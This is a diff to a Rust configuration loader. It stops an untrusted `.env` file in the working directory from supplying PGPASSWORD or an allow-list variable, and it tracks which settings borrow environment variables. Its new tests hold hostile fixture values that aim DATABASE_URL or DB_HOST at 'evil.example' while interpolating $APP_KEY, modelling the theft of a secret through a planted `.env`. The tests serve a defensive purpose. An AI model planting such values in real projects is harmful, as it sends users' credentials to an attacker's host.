@@ -3,17 +3,19 @@
 //! A `.env` that happens to lie in the working directory may be another person's. It says what it likes, but not where a
 //! secret goes that stands elsewhere: see [`Source::is_found`].
 
-use std::cell::Cell;
 use std::collections::{HashMap, HashSet};
 use std::io::ErrorKind;
 use std::path::Path;
 
 use super::ConfigError;
-use super::env_file::{self, Fault};
+use super::env_file::{self, Fault, Parsed};
 use crate::secrets::Secrets;
 
-/// Allows any `TWITCH_ID_URL`. It counts in the environment alone, so that no file allows what it says.
+/// Allows any `TWITCH_ID_URL`.
 pub(super) const TWITCH_ID_URL_ALLOW: &str = "TWITCH_ID_URL_ALLOW";
+
+/// What counts in the environment alone: no file allows what it says, and libpq's password is read there by sqlx.
+const NEVER_IN_A_FILE: [&str; 2] = [TWITCH_ID_URL_ALLOW, "PGPASSWORD"];
 
 /// Variables, and the secrets that they name.
 #[derive(Clone, Default)]
@@ -22,8 +24,8 @@ pub struct Source {
     pub(super) variables: HashMap<String, String>,
     /// Those of them that stand in a file which happened to be there.
     found: HashSet<String>,
-    /// That file uses variables of the environment.
-    borrows: bool,
+    /// Those of the found ones whose values use the environment.
+    borrowers: HashSet<String>,
     /// What reads the secrets.
     pub(super) secrets: Secrets,
     /// In which secret a setting stands or would stand, in words.
@@ -51,8 +53,9 @@ impl Source {
     pub fn and_env_in(mut self, directory: &Path) -> Result<Self, ConfigError> {
         let path = directory.join(".env");
         if path.exists() {
-            let entries = self.read(&path)?;
+            let Parsed { entries, borrowers } = self.read(&path)?;
             self.found = self.add_missing(entries);
+            self.borrowers = borrowers;
         }
         Ok(self)
     }
@@ -63,13 +66,12 @@ impl Source {
     ///
     /// If the file is not there or can't be read.
     pub fn and_file(mut self, path: &Path) -> Result<Self, ConfigError> {
-        let entries = self.read(path)?;
+        let entries = self.read(path)?.entries;
         self.add_missing(entries);
-        self.borrows = false;
         Ok(self)
     }
 
-    fn read(&mut self, path: &Path) -> Result<Vec<(String, String)>, ConfigError> {
+    fn read(&self, path: &Path) -> Result<Parsed, ConfigError> {
         let text = std::fs::read_to_string(path).map_err(|error| {
             let why = match error.kind() {
                 ErrorKind::NotFound => "does not exist",
@@ -77,13 +79,7 @@ impl Source {
             };
             ConfigError(vec![format!("{} {why}", path.display())])
         })?;
-        let borrows = Cell::new(false);
-        let of_environment = |name: &str| {
-            let value = self.get(name).map(str::to_owned);
-            borrows.set(borrows.get() || value.is_some());
-            value
-        };
-        let entries = env_file::parse(&text, of_environment).map_err(|faults| {
+        env_file::parse(&text, |name| self.get(name).map(str::to_owned)).map_err(|faults| {
             let texts = faults.into_iter().map(|fault| match fault {
                 Fault::Form(line) => format!("{}, line {line}: not of the form NAME=value", path.display()),
                 Fault::Unset(line) => format!(
@@ -92,9 +88,7 @@ impl Source {
                 ),
             });
             ConfigError(texts.collect())
-        })?;
-        self.borrows = borrows.get();
-        Ok(entries)
+        })
     }
 
     /// Takes in what is not set yet, and answers its names.
@@ -104,7 +98,7 @@ impl Source {
     ) -> HashSet<String> {
         let mut added = HashSet::new();
         for (name, value) in entries {
-            if name != TWITCH_ID_URL_ALLOW && self.get(&name).is_none() {
+            if !NEVER_IN_A_FILE.contains(&name.as_str()) && self.get(&name).is_none() {
                 added.insert(name.clone());
                 self.variables.insert(name, value);
             }
@@ -124,9 +118,9 @@ impl Source {
         self.found.contains(name)
     }
 
-    /// Whether that file uses variables of the environment.
-    pub(super) fn borrows(&self) -> bool {
-        self.borrows
+    /// Whether it stands there and uses variables of the environment, which may be secrets.
+    pub(super) fn borrows(&self, name: &str) -> bool {
+        self.is_found(name) && self.borrowers.contains(name)
     }
 
     /// The same settings, and the secrets that they name.
@@ -284,6 +278,15 @@ mod tests {
         {
             way("DATABASE_URL", &[], &format!("DATABASE_URL=postgres://{borrowed}/x?sslmode=verify-full"));
         }
+        way(
+            "DATABASE_URL",
+            &[],
+            "OURS=$APP_KEY\nDATABASE_URL=postgres://app:$OURS@evil.example/x?sslmode=verify-full",
+        );
+        way("DB_HOST", &[], "DB_HOST=evil.example\nDB_USER=$APP_KEY\nDB_PASSWORD=theirs\nDB_DATABASE=x");
+        // Its password may stand in a ~/.pgpass.
+        way("DATABASE_URL", &[], &format!("DATABASE_URL={WITHOUT_PASSWORD}"));
+        way("DATABASE_HOST", &[("DATABASE_URL", WITHOUT_PASSWORD)], "DATABASE_HOST=evil.example");
         for (environment, file) in [
             (
                 &[][..],
@@ -293,6 +296,7 @@ mod tests {
             (&[far], "DATABASE_HOST=localhost".to_owned()),
             (&[far], "DB_HOST=another.example.com\nDATABASE_PLAINTEXT=off".to_owned()),
             (&[], format!("OURS={FAR}\nDATABASE_URL=$OURS")),
+            (&[("HOME", "/home/us")], format!("DATABASE_URL={FAR}\nLOG_DIR=$HOME/logs")),
         ] {
             assert_eq!(faults(environment, &file), NO_FAULTS, "{file}");
         }
